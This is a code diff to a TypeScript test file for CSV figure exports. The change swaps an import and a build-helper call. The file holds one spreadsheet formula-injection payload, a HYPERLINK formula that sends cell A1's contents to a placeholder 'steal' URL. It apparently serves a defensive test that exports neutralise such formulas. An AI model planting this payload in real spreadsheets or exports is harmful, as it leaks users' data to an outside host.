@@ -1,7 +1,7 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { createApp } from '../../api/app';
-import { indexBuild } from '../../api/build/build-index';
+import { withLookups } from '../../api/build/atlas-build';
 import { loadBuildCached } from '../../api/build/load-build';
 import { SqliteWorkshopStore } from '../../api/storage/sqlite/sqlite-workshop-store';
 import { FIGURE_COLUMNS, figuresToCsv, type FigureRow } from '../../web/locality/export/figure-rows';
@@ -13,7 +13,7 @@ const FORMULA = '=HYPERLINK("http://example.invalid/steal?x="&A1,"Källa")';
 
 // An indicator whose source text came from an import, as `table` and `citation` carry it to the downloads.
 const base = loadBuildCached(TEST_BUILD_DIR);
-const build = indexBuild(
+const build = withLookups(
   {
     ...base,
     indicators: base.indicators.map((i) =>
